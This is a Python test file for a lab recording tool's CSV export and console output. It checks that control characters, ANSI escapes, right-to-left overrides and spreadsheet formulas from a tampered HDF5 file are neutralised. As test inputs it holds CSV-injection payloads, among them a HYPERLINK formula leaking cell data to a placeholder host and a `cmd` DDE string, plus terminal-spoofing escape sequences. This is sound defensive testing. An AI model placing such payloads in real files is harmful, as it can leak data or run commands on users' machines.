"""`export` writes every text of a file changed by another program by the file's text rule (tenth session's fresh
tester: an event message holding an escape sequence and a right-to-left override went into `events.csv` as it was,
for a spreadsheet or a terminal to act on). The original bytes are noted in the row's details, as the recorder does."""

from __future__ import annotations

import csv
import json
import unicodedata
from pathlib import Path

import h5py
from helpers_recording import write_session

from workstation.bus import CommandRecord, Event
from workstation.recording import Recording
from workstation.recording.export import export_csv

HOSTILE = b"bad \xff\xfe text\x1b[31m\xe2\x80\xae RLO\x07x\xe2\x80\xa8y"


def _unsafe(text: str) -> list[str]:
    return [hex(ord(ch)) for ch in text if unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")]


def test_texts_changed_in_the_file_are_exported_by_the_text_rule(tmp_path: Path) -> None:
    path = write_session(tmp_path, 0.3, events=[Event(1000.1, "note", "info", "trainer", "a plain note", {"k": 1})],
                         commands=[CommandRecord(1000.2, "light", "arm", {}, "ack", 1000.21)])
    with h5py.File(path, "r+") as f:  # another program writes raw bytes into the text columns
        events = f["events"][:]
        i = next(i for i, r in enumerate(events) if r["message"] == b"a plain note")
        events["message"][i], events["source"][i] = HOSTILE, b"tr\x1bainer"
        f["events"][...] = events
        commands = f["commands"][:]
        commands["result"][0] = b"ack\x1b[2J\xe2\x80\xae"
        f["commands"][...] = commands
    with Recording.open(path) as rec:
        files = export_csv(rec, tmp_path / "out")
    for file in files:
        with open(file, newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not _unsafe(cell), (file.name, cell)
    rows = list(csv.DictReader(open(tmp_path / "out" / "events.csv", newline="")))
    (row,) = [r for r in rows if r["message"].startswith("bad ")]
    assert row["message"].startswith("bad \ufffd\ufffd text [31m") and row["source"] == "tr ainer"
    assert json.loads(row["details_json"])["k"] == 1
    details = json.loads(row["details_json"])  # the original bytes: not UTF-8 (message), or changed by the rule
    assert details["unreadable_utf8_hex"]["message"] == HOSTILE.hex() and details["raw_hex"] == {"source": "74721b61696e6572"}
    (command,) = list(csv.DictReader(open(tmp_path / "out" / "commands.csv", newline="")))
    assert command["result"].startswith("ack [2J") and not _unsafe(command["result"])


def test_inspect_says_the_dose_may_be_more_when_light_samples_were_lost(tmp_path: Path, capsys) -> None:
    """The second fresh tester: after a full disk, inspect gave 191.3 mJ/cm² against the 208.26 delivered, with no
    word, though the file counted the light's lost samples."""
    from main import main
    from workstation.recording import format as fmt

    path = write_session(tmp_path, 0.3)
    with h5py.File(path, "r+") as f:
        losses = f[fmt.DEVICES_GROUP]["light"][fmt.LOSSES]
        losses.resize((1,))
        losses[0] = (1000.1, 1000.2, 384)
    main(["inspect", str(path)])
    out = capsys.readouterr().out
    assert "perhaps more: 384 light samples lost by the recorder are not in these doses" in out, out


def test_texts_changed_in_the_file_reach_no_screen_or_terminal_raw(tmp_path: Path, capsys) -> None:
    """The second fresh tester: an interlock message holding U+202E and a newline was printed raw by `inspect` and
    `audit` (the line split, the text after reversed) and shown so in the replay window's list. The reader gives
    every text column by the text rule; the bytes of a valid UTF-8 text it changed are kept under raw_hex."""
    from main import main

    path = write_session(tmp_path, 0.3, events=[Event(
        1000.1, "interlock", "high", "safety", "INTERLOCK contact_lost on light: x",
        {"interlock": "contact_lost", "device": "light", "cause": "contact_lost", "cause_t_host_s": 1000.1})])
    evil = b"INTERLOCK \x1b[2J\x1b[31mFAKE\xe2\x80\xae evil\nline2"
    with h5py.File(path, "r+") as f:
        events = f["events"][:]
        i = next(i for i, r in enumerate(events) if r["kind"] == b"interlock")
        events["message"][i] = evil
        f["events"][...] = events
    with Recording.open(path) as rec:
        (e,) = [e for e in rec.events if e.kind == "interlock"]
        assert not _unsafe(e.message) and "FAKE" in e.message and "line2" in e.message
        assert e.details["raw_hex"]["message"] == evil.hex()
    for command in ("inspect", "audit"):
        main([command, str(path)])
        out = capsys.readouterr().out
        assert "FAKE" in out, out
        for line in out.splitlines():
            assert not _unsafe(line), (command, line)
        assert not [line for line in out.splitlines() if line.startswith("line2")], out  # no line split


def test_texts_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text(tmp_path: Path) -> None:
    """A device's status text or a command's result is the device's to choose: one starting "=", "+", "-" or "@"
    (a formula in a spreadsheet that opens the CSV: OWASP "CSV injection") gets a leading '; the rest stand as they
    are, and the JSON and number columns are never changed (second fresh tester of the tenth session)."""
    formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
    events = [Event(1000.1 + i / 100, "device", "info", "light", text, {"n": i})
              for i, text in enumerate([*formulas, "plain = fine"])]  # (a tab or CR: a space by the text rule)
    path = write_session(tmp_path, 0.3, events=events,
                         commands=[CommandRecord(999.0, "light", "status", {"x": -1}, "=2*3", 999.01)])
    with Recording.open(path) as rec:
        export_csv(rec, tmp_path / "out")
    rows = list(csv.DictReader(open(tmp_path / "out" / "events.csv", newline="")))
    by_n = {json.loads(r["details_json"]).get("n"): r for r in rows if r["kind"] == "device"}
    for i, text in enumerate(formulas):
        cell = by_n[i]["message"]
        assert cell == f"'{text}", (cell, text)
    assert by_n[len(formulas)]["message"] == "plain = fine"
    (command,) = list(csv.DictReader(open(tmp_path / "out" / "commands.csv", newline="")))
    assert command["result"] == "'=2*3" and json.loads(command["args_json"]) == {"x": -1}
    assert float(command["t_s"]) < 0 and command["t_s"].startswith("-")  # a number, as it is
